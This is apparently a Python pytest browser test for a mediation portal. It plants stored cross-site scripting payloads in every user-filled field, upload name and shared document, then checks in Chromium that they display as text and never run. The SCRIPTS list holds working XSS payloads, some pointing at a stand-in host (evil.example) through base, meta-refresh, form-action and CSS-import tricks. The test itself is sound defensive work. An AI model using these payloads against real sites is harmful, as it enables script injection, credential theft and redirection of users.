"""Scripts in every field that people fill in, looked at in a real Chromium: shown as the words they are, never run."""

import asyncio
import contextlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
import websockets
from pycrdt import Doc, XmlElement, XmlFragment, XmlText

from casebook import opening
from chromium import node
from mediation import clock
from mediation.case import commands as c
from mediation.case.refusals import Refusal
from mediation.drafting import wire
from mediation.identity import accounts
from proofs.disputes import SEATED, Dispute, open_dispute, upload
from proofs.knocking import Callers
from proofs.whole_portal import WholePortal, numbered, whole_portal
from way_in import settings_for

STORY = Path(__file__).with_name("stored_scripts.mjs")
SCRIPTS = (
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    '"><img src=x onerror=ran()>',
    "'><svg/onload=ran()>",
    "<img src=x onerror=ran()//",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<a href='javascript:ran()'>here</a>",
    "[here](javascript:ran())",
    "javascript:ran()",
    "JaVaScRiPt:ran()//%0aalert(1)",
    "data:text/html,<script>ran()</script>",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "</textarea></title></style><script>ran()</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=//evil.example><input autofocus onfocus=ran()>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<object data=javascript:ran()></object><embed src=javascript:ran()>",
    "<details open ontoggle=ran()>",
    "<template><script>ran()</script></template>",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\u2028ran()\u2029",
)
ALL = "\n".join(SCRIPTS)
SHORT = "".join(SCRIPTS[:4])[:120]
NAME = SCRIPTS[2]


@pytest.mark.browser
@pytest.mark.timeout(240)
async def test_scripts_that_people_leave_behind_are_shown_and_never_run(
    database: str, tmp_path: Path, chromium: Path
) -> None:
    async with whole_portal(database, tmp_path) as portal:
        address = f"http://localhost:{portal.port}"
        # Known only once it listens: the door and the links compare with it.
        portal.app.state.settings = settings_for(tmp_path, database_url=database, base_url=address)
        callers = await Callers(portal).arrive()
        people = {who: callers.accounts[who] for who in SEATED}
        dispute = await open_dispute(portal, people, 1, busy=False)
        await _leave_scripts_everywhere(portal, dispute)
        second = await _a_case_named_by_scripts(portal, people)
        told: dict[str, Any] = {"url": address, "chromium": str(chromium), "cases": [dispute.case_id, second]}
        told["people"] = {who: _token(await portal.session(people[who])) for who in ("client", "handler", "mediator")}
        told["people"]["administrator"] = _token(await portal.session(callers.accounts["administrator"]))
        # Words of each place, to be seen as they are: without them the test would look at empty pages.
        told["shown"] = [SCRIPTS[0], SCRIPTS[2]]
        process = await asyncio.create_subprocess_exec(
            node(),
            STORY,
            env={**os.environ, "PROOF": json.dumps(told)},
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            start_new_session=True,
        )
        try:
            said, _ = await process.communicate()
        finally:
            with contextlib.suppress(ProcessLookupError):
                process.kill()
    print(said.decode())
    assert process.returncode == 0, said.decode()


def _token(header: dict[str, str]) -> str:
    return header["cookie"].partition("=")[2]


async def _leave_scripts_everywhere(portal: WholePortal, dispute: Dispute) -> None:
    do, things = dispute.do, dispute.things
    client = dispute.seats["client"]
    room = "caucus-client"
    account = await portal.account(NAME, account_id=numbered("account", "script"))
    await portal.join(
        dispute.case_id,
        account,
        numbered("participant", "script"),
        c.JoinCase(name=NAME, role="companion", party="client", title=SHORT),
    )
    for where in ("talks", "joint", room, "team-client", things["private room"]):
        await do("client", c.PostMessage, room=where, text=ALL)
    await do("client", c.PostMessage, room="joint", text=ALL, form="apology")
    await do("mediator", c.Disclose, text=ALL)
    issue = await do("mediator", c.PutIssue, text=SHORT)
    position = await do("client", c.StatePosition, issue=issue, text=ALL, interest=ALL, wants=ALL)
    reflection = await do("mediator", c.ReflectPosition, position=position, text=ALL)
    await do("client", c.AnswerReflection, reflection=reflection, heard=False, correction=ALL)
    for kind in ("shared-fact", "shared-aim", "possible-term"):
        await do("mediator", c.ProposeStatement, kind=kind, text=f"{kind} {ALL}", issue=issue)
    await do("client", c.MakeOffer, terms=ALL)
    await do("client", c.DeclareAuthority, can_agree=(client.participant_id,), to_call=ALL)
    await do("mediator", c.ScribePosition, owner=client.participant_id, text=ALL, interest=ALL, wants=ALL)
    await do("mediator", c.ProposeSharing, room=room, form="mediators-words", text=ALL)
    await do("mediator", c.CloseCaucus, party="client", announcement=ALL)
    await do("client", c.ReportAbuse, room="joint", text=ALL)
    await do("mediator", c.OpenRoom, members=(client.participant_id,), name=SHORT)
    with contextlib.suppress(Refusal):
        await do("client", c.StepTier, to="management")
    for name in (NAME, "<script>ran()<.html", "x.svg", 'a" onload="ran().txt'):
        await upload(dispute, client, "joint", b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran()'/>", name)
    header = await portal.session(dispute.seats["mediator"].account_id)
    await portal.http.put(f"/api/cases/{dispute.case_id}/notes", json={"text": ALL}, headers=header)
    header = await portal.session(client.account_id)
    for path, body in (
        (
            "invitations",
            {"role": "companion", "party": "client", "email": "s@friends.example", "name": NAME, "title": SHORT},
        ),
        ("complaints", {"text": ALL}),
    ):
        command_id = numbered("script", path)
        answer = await portal.http.post(
            f"/api/cases/{dispute.case_id}/{path}", json={"command_id": command_id, **body}, headers=header
        )
        assert answer.status_code == 201, answer.text
    await _write_scripts_into_the_settlement(portal, dispute, header)


async def _write_scripts_into_the_settlement(portal: WholePortal, dispute: Dispute, header: dict[str, str]) -> None:
    """As a browser of an attacker would: elements, attributes and marks that no editor of ours makes."""
    doc: Doc[Any] = Doc()
    doc["prosemirror"] = body = XmlFragment()
    for text in (ALL, SHORT):
        body.children.append(XmlElement("paragraph", {}, [XmlText(text)]))
    body.children.append(XmlElement("heading", {"level": '1" onclick="ran()'}, [XmlText(NAME)]))
    body.children.append(XmlElement("script", {}, [XmlText("ran()")]))
    body.children.append(XmlElement("img", {"src": "x", "onerror": "ran()"}, []))
    linked = XmlText("follow me")
    body.children.append(XmlElement("paragraph", {}, [linked]))
    linked.format(0, 9, {"link": {"href": "javascript:ran()"}})
    start = wire.prefix("settlement.1")
    url = f"ws://127.0.0.1:{portal.port}/api/cases/{dispute.case_id}/documents"
    async with websockets.connect(url, additional_headers=header, proxy=None) as socket:
        await socket.send(start + bytes([wire.Type.AUTH, 0]) + wire.var_string("") + wire.var_string("4.8.0"))
        await socket.send(wire.state(start, b"\0"))
        await socket.send(wire.update(start, doc.get_update()))
        with contextlib.suppress(websockets.ConnectionClosed):
            await socket.send(wire.PING)
            while await socket.recv() != wire.PONG:
                pass


async def _a_case_named_by_scripts(portal: WholePortal, people: dict[str, str]) -> str:
    side = c.PartyDescription(name=NAME, place=SHORT)
    command = opening(
        numbered("dispute", "script"),
        title=SHORT,
        account=ALL,
        fees=ALL,
        since=SHORT,
        wish=ALL,
        business=side,
        client=side,
    )
    async with portal.casework.pool.acquire() as conn:
        await accounts.create_guest(conn, NAME, clock.now())
    case_id, _ = await portal.casework.open(people["handler"], NAME, command, clock.now())
    for who in ("client", "mediator"):
        role, party = SEATED[who]
        seat = c.JoinCase(name=f"{NAME} {who}", role=role, party=party, title=SHORT)
        await portal.join(case_id, people[who], numbered("participant", who), seat)
    return case_id
